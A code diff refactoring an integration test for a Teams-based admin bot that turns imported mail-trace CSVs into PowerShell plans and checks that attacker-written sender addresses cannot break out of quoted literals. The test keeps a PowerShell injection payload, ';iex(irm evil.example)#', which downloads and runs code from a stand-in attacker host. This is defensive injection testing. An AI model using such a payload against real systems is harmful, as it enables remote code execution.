@@ -8,20 +8,15 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { SUMMARY_COLUMNS } from '../../bot/src/admin/trace/trace-formats';
 import { READINESS_CSV_COLUMNS } from '../../bot/src/admin/readiness/render-csv';
-import { startDnsServer, type DnsTestServer } from '../../bot/test/admin/servers/dns-server';
-import { startContractServer, type ContractServer } from '../../bot/test/admin/servers/microsoft-contract-server';
 import { cardTexts } from '../../bot/test/support/core-harness';
 import { csvRecords } from '../../bot/test/support/csv-text';
-import { CONTOSO_CMDLETS, CONTOSO_DNS_ZONE, repoRoot } from '../../bot/test/support/fixtures';
+import { repoRoot } from '../../bot/test/support/fixtures';
 import { literalsOf } from '../../bot/test/support/powershell-tokens';
-import { startLocalBotFramework, type LocalBotFramework } from '../../bot/test/support/bot-framework';
-import { localServer, startServer, type LocalServer, type RunningServer } from '../../bot/test/support/server-harness';
-import { cardIn, fileAttachment, teamsTurn, type Activity } from './support/teams-turn';
+import { startFileServer, type FileServer } from './support/file-server';
+import { startServerInTeams, type ServerInTeams } from './support/local-teams';
+import { startContosoTenant, TENANT, type MicrosoftTenant } from './support/microsoft-tenant';
+import { admin, ADMIN, cardIn, fileAttachment, teamsTurn, type Activity } from './support/teams-turn';
 
-const ADMIN = '11111111-1111-4111-8111-111111111111';
-const TENANT = '44444444-4444-4444-8444-444444444444';
-const APP = '55555555-5555-4555-8555-555555555555';
-const admin = { id: '29:sec', aadObjectId: ADMIN, name: 'Sec' };
 const PAYLOAD = ';iex(irm evil.example)#';
 const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
 /** One attacker-written sender address per quote character, each sending from its own /24. */
@@ -37,58 +32,30 @@ const traceCsv = [
   ),
 ].join('\r\n');
 
-let server: RunningServer;
-let files: LocalServer;
-let connector: LocalServer;
-let botFramework: LocalBotFramework;
-let exchange: ContractServer;
-let dns: DnsTestServer;
+let server: ServerInTeams;
+let files: FileServer;
+let tenant: MicrosoftTenant;
 
 beforeAll(async () => {
-  connector = await localServer(
-    (_req, res) => void res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"x"}'),
-  );
-  files = await localServer((req, res) => {
-    if (req.path === '/files/trace.csv') return void res.writeHead(200, { 'content-type': 'text/csv' }).end(traceCsv);
-    res.writeHead(404).end();
-  });
-  exchange = await startContractServer({
-    tenantId: TENANT,
-    clientId: APP,
-    clientSecret: 'app-secret',
-    cmdlets: CONTOSO_CMDLETS,
-  });
-  dns = await startDnsServer(CONTOSO_DNS_ZONE);
-  botFramework = await startLocalBotFramework();
-  server = await startServer(
+  files = await startFileServer({ 'trace.csv': { type: 'text/csv', body: traceCsv } });
+  tenant = await startContosoTenant();
+  server = await startServerInTeams(
     {
-      ...botFramework.vars,
+      ...tenant.vars,
       ADMIN_USER_IDS: ADMIN,
       ACCEPTED_DOMAINS: 'contoso.com',
-      DSGUARD_TENANT_ID: TENANT,
-      DSGUARD_CLIENT_ID: APP,
-      DSGUARD_CLIENT_SECRET: 'app-secret',
-      DSGUARD_TENANT_DOMAIN: 'contoso.onmicrosoft.com',
-      ENTRA_AUTHORITY_HOST: exchange.url,
-      EXCHANGE_ADMIN_URL: `${exchange.url}/adminapi/beta`,
-      GRAPH_URL: `${exchange.url}/graph/v1.0`,
-      DNS_SERVERS: dns.address,
       PUBLIC_URL: 'https://dsguard.example.com',
     },
-    { startOutbox: false, botAuthentication: botFramework.authentication },
+    { startOutbox: false },
   );
 });
 afterAll(async () => {
   await server?.close();
   await files?.close();
-  await connector?.close();
-  await botFramework?.close();
-  await exchange?.close();
-  await dns?.close();
+  await tenant?.close();
 });
 
-const bot = (extra: Record<string, unknown>): Promise<Activity[]> =>
-  teamsTurn({ url: server.url, serviceUrl: connector.url, botFramework, tenantId: TENANT }, admin, extra);
+const bot = (extra: Record<string, unknown>): Promise<Activity[]> => teamsTurn(server.endpoint(TENANT), admin, extra);
 
 /** The commands of a Markdown plan: the lines of its ```powershell blocks. */
 function fencedCommands(markdown: string): string[] {
@@ -122,7 +89,7 @@ function expectSafe(commands: readonly string[]): void {
 }
 
 test('sources named after attacker-written sender addresses: the plan from the tenant, as Markdown, CSV and card, parses safely', async () => {
-  await bot({ text: 'import', attachments: [fileAttachment('trace.csv', `${files.url}/files/trace.csv`)] });
+  await bot({ text: 'import', attachments: [fileAttachment('trace.csv', files.fileUrl('trace.csv'))] });
   // Approved without a name: the source is named after its top sender, the attacker's address.
   for (let i = 0; i < QUOTES.length; i++) await bot({ text: `approve 203.0.${113 + i}.7` });
   const inventory = (await (await fetch(`${server.url}/api/inventory?status=approved`)).json()) as {
